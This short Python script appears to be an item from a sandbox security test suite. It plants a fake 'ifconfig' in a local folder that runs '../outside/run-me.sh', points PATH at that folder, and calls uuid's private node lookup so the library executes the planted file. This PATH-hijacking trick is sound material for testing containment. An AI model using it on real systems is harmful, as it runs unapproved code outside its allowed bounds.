# uuid asks a tool for the machine's address, and PATH says which one.
# status: any
# damage: program
# needs: linux
import os
import uuid

os.mkdir("tools")
with open("tools/ifconfig", "w") as file:
    file.write("#!/bin/sh\n../outside/run-me.sh\n")
os.chmod("tools/ifconfig", 0o755)
os.environ["PATH"] = os.path.abspath("tools")
uuid._ifconfig_getnode()
